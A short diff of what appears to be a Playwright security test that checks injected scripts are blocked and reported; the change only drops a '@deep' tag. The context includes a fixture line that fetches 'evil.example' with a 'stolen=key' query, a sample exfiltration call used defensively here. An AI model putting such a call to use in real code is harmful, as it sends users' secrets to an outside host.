@@ -34,7 +34,7 @@ function injectScripts(): void {
   void fetch('https://evil.example/?stolen=key').catch(() => null);
 }
 
-test('injected scripts do not run, send nothing, and are reported', { tag: '@deep' }, async ({ page }) => {
+test('injected scripts do not run, send nothing, and are reported', async ({ page }) => {
   const foreign: string[] = [];
   await page.route('https://evil.example/**', async (route) => {
     foreign.push(route.request().url());
